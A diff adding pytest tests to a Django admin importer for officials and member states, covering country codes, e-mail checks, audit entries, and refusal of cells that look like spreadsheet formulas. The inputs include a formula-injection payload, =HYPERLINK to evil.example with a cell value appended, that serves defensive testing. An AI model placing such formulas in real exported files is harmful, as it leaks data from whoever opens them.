@@ -3,6 +3,7 @@ bad row reported, and nothing written (nobody invited) until TSB confirms."""
 
 from __future__ import annotations
 
+import csv
 import datetime
 import hashlib
 import io
@@ -13,11 +14,13 @@ import pytest
 from allauth.account.models import EmailAddress
 from django.apps import apps
 from django.contrib import admin
+from django.contrib.admin.models import LogEntry
 from django.contrib.auth.models import Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from accounts.models import AccountEvent, MemberState, Official, User
+from accounts.resources import formula_cell_error
 from tests import factories
 
 pytestmark = pytest.mark.django_db
@@ -350,3 +353,236 @@ def test_importing_needs_the_add_permission(client, signed_in, states) -> None:
         page = client.get(url(model, "changelist")).content.decode()
         assert url(model, "import") not in page
     assert database() == before
+
+
+# --- codes, formulas, addresses: every refusal says why ------------------------------------
+
+
+def refused(response: Any) -> str:
+    """The page of an import refused as a whole: row errors shown, nothing to confirm."""
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert response.context["result"].has_validation_errors(), page
+    assert not response.context.get("confirm_form")
+    assert "Confirm import" not in page
+    return page
+
+
+def test_officials_take_alpha2_or_alpha3_codes_in_any_case_and_say_which(
+    client, importer, states, django_capture_on_commit_callbacks
+) -> None:
+    factories.MemberStateFactory(alpha2="CN", alpha3="CHN", name="China", region="C")
+    content = officials_csv(
+        "li.wei@example.cn,Wei,Li,cn,drafter,,zh-hans",
+        "anna@admin.ch,Anna,Muster,CH,signatory,,",
+        "joao@anatel.example,João,Silva,bra,drafter,,",
+    )
+    preview = upload(client, Official, content)
+    page = preview.content.decode()
+    assert preview.context["confirm_form"], page
+    assert "cn read as alpha-2: China" in page
+    assert "CH read as alpha-2: Switzerland" in page
+    assert "bra read as alpha-3: Brazil" in page
+    with django_capture_on_commit_callbacks(execute=True):
+        confirm(client, Official, preview)
+    states_by_email = dict(Official.objects.values_list("user__email", "member_state__alpha3"))
+    assert states_by_email == {
+        "li.wei@example.cn": "CHN",
+        "anna@admin.ch": "CHE",
+        "joao@anatel.example": "BRA",
+    }
+
+
+def test_an_unknown_or_malformed_code_is_refused(client, importer, states) -> None:
+    before = database()
+    page = refused(
+        upload(
+            client,
+            Official,
+            officials_csv("a@example.org,A,B,CN,signatory,,", "b@example.org,B,C,,drafter,,"),
+        )
+    )
+    assert "Unknown country: no Member State has the code CN." in page
+    assert "The Member State (ISO alpha-2 or alpha-3 code) is required." in page
+    assert database() == before
+
+
+def test_member_states_rows_may_name_a_known_state_by_alpha2_only(client, importer, states) -> None:
+    content = states_csv("br,,Brazil,A,1947-01-01,", "PW,PLW,Palau,E,2024-09-19,")
+    preview = upload(client, MemberState, content)
+    page = preview.content.decode()
+    assert preview.context["confirm_form"], page
+    assert "Row 1: br read as alpha-2: Brazil" in page
+    types = [row.import_type for row in preview.context["result"].valid_rows()]
+    assert types == ["update", "new"]
+    done = confirm(client, MemberState, preview)
+    assert done.status_code == 302
+    brazil = MemberState.objects.get(alpha2="BR")
+    assert (brazil.alpha3, brazil.joined_on) == ("BRA", datetime.date(1947, 1, 1))
+    assert MemberState.objects.filter(alpha3="PLW").exists()
+    # The audit of a Member States import: the admin's log, one entry per written row.
+    entries = LogEntry.objects.filter(content_type__model="memberstate")
+    assert sorted((e.object_repr, e.user_id) for e in entries) == [
+        ("Brazil", importer.pk),
+        ("Palau", importer.pk),
+    ]
+
+
+def test_a_new_member_state_needs_both_codes(client, importer, states) -> None:
+    before = database()
+    page = refused(upload(client, MemberState, states_csv("PW,,Palau,E,,")))
+    assert "is not an ISO 3166-1 alpha-3 code (three letters)." in page
+    assert database() == before
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.mark.parametrize(
+    ("cells", "column", "start"),
+    [
+        ({"email": "=cmd@evil.example"}, "email", "="),
+        ({"first_name": HYPERLINK}, "first_name", "="),
+        ({"last_name": "+SUM(1,2)"}, "last_name", "+"),
+        ({"official_title": "-2+3"}, "official_title", "-"),
+        ({"official_title": "@SUM(A1)"}, "official_title", "@"),
+        ({"last_name": "\t=1+1"}, "last_name", "TAB"),
+        ({"first_name": "\rAnna"}, "first_name", "CR"),
+        ({"member_state": "=CHE"}, "member_state", "="),
+        ({"role": "-signatory"}, "role", "-"),
+        ({"language": "+fr"}, "language", "+"),
+    ],
+)
+def test_officials_refuse_a_cell_that_looks_like_a_formula(
+    client, importer, states, mailoutbox, cells, column, start
+) -> None:
+    good = {
+        "email": "anna@admin.ch",
+        "first_name": "Anna",
+        "last_name": "Muster",
+        "member_state": "CHE",
+        "role": "signatory",
+        "official_title": "Director",
+        "language": "fr",
+    }
+    columns = OFFICIAL_COLUMNS.split(",")
+    row = [{**good, **cells}[c] for c in columns]
+    before = database()
+    if start in ("TAB", "CR"):
+        # XLSX keeps a leading CR, which reading a CSV turns into a new line.
+        book = openpyxl.Workbook()
+        book.active.append(columns)
+        book.active.append(row)
+        content = io.BytesIO()
+        book.save(content)
+        response = upload(client, Official, content.getvalue(), "xlsx")
+    else:
+        # CSV: XLSX would store "=..." as a formula, which the import reads as its value.
+        text = io.StringIO()
+        csv.writer(text).writerows([columns, row])
+        response = upload(client, Official, text.getvalue().encode())
+    page = refused(response)
+    assert (
+        f"The {column} cell starts with {start}, which a spreadsheet reads as a formula: "
+        "a cell may not begin with = + - @, TAB or CR."
+    ) in page, page
+    [invalid] = response.context["result"].invalid_rows
+    assert list(invalid.error_dict) == [column]
+    assert database() == before and mailoutbox == []
+
+
+@pytest.mark.parametrize(
+    ("row", "column"),
+    [
+        ("CH,CHE,=Switzerland,B,,", "name"),
+        ("CH,CHE,Switzerland,B,,,@note", "note"),
+        ("CH,CHE,Switzerland,B,,,+41 22 730 51 11", "note"),  # no phone column here
+        ("=C,CHE,Switzerland,B,,", "alpha2"),
+        ("CH,-CH,Switzerland,B,,", "alpha3"),
+        ("CH,CHE,Switzerland,=B,,", "region"),
+        ("CH,CHE,Switzerland,B,-2020-01-01,", "joined_on"),
+    ],
+)
+def test_member_states_refuse_a_cell_that_looks_like_a_formula(
+    client, importer, states, row, column
+) -> None:
+    before = database()
+    response = upload(client, MemberState, states_csv(row, header=STATE_COLUMNS + ",note"))
+    page = refused(response)
+    assert f"The {column} cell starts with " in page, page
+    assert "which a spreadsheet reads as a formula" in page
+    [invalid] = response.context["result"].invalid_rows
+    assert column in invalid.error_dict
+    assert database() == before
+
+
+def test_a_plus_and_a_digit_is_allowed_in_a_phone_column_only() -> None:
+    assert formula_cell_error("fax", "+41 22 730 51 11", phone=True) is None
+    assert formula_cell_error("fax", "+41 22 730 51 11") is not None
+    assert formula_cell_error("fax", "+SUM(A1)", phone=True) is not None
+    assert formula_cell_error("fax", "=41", phone=True) is not None
+    assert formula_cell_error("fax", "-41", phone=True) is not None
+    assert formula_cell_error("name", "Anna") is None
+    assert formula_cell_error("joined_on", datetime.date(2020, 1, 1)) is None
+
+
+@pytest.mark.parametrize(
+    "address", ["anna@", "anna.admin.ch", "anna@admin", "anna muster@admin.ch", "a@b@admin.ch"]
+)
+def test_officials_refuse_an_address_that_is_not_one(client, importer, states, address) -> None:
+    before = database()
+    response = upload(client, Official, officials_csv(f"{address},Anna,Muster,CHE,signatory,,"))
+    page = refused(response)
+    assert "is not an e-mail address." in page, page
+    [invalid] = response.context["result"].invalid_rows
+    assert list(invalid.error_dict) == ["email"]
+    assert database() == before
+
+
+def test_one_bad_row_refuses_the_whole_file_and_says_why(
+    client, importer, states, mailoutbox, django_capture_on_commit_callbacks
+) -> None:
+    content = officials_csv(
+        "anna@admin.ch,Anna,Muster,CHE,signatory,,",
+        "joao@anatel.example,=1+1,Silva,BRA,drafter,,",
+        "li.wei@example.cn,Wei,Li,CH,drafter,,",
+    )
+    before = database()
+    with django_capture_on_commit_callbacks(execute=True):
+        response = upload(client, Official, content)
+    page = refused(response)
+    assert "Nothing was imported" in page
+    assert "The first_name cell starts with =" in page
+    result = response.context["result"]
+    assert [row.number for row in result.invalid_rows] == [2]
+    assert database() == before and mailoutbox == []
+    # A confirmation forged from the refused preview writes nothing either.
+    with django_capture_on_commit_callbacks(execute=True):
+        again = client.post(
+            url(Official, "process_import"),
+            {
+                "import_file_name": "missing.csv",
+                "original_file_name": "upload.csv",
+                "format": fmt(Official, "csv"),
+                "resource": "0",
+            },
+        )
+    assert again.status_code in (200, 302)
+    assert database() == before and mailoutbox == []
+
+
+def test_confirming_records_one_created_event_per_official_with_the_importer(
+    client, importer, states, django_capture_on_commit_callbacks
+) -> None:
+    preview = upload(client, Official, GOOD_OFFICIALS)
+    with django_capture_on_commit_callbacks(execute=True):
+        confirm(client, Official, preview)
+    created = AccountEvent.objects.filter(kind=AccountEvent.Kind.CREATED).order_by("pk")
+    assert [(e.subject.email, e.actor, e.ip_address) for e in created] == [
+        ("anna.muster@admin.ch", importer, "127.0.0.1"),
+        ("joao@anatel.example", importer, "127.0.0.1"),
+    ]
+    assert [e.detail for e in created] == [
+        {"member_state": "CHE", "role": "signatory"},
+        {"member_state": "BRA", "role": "drafter"},
+    ]
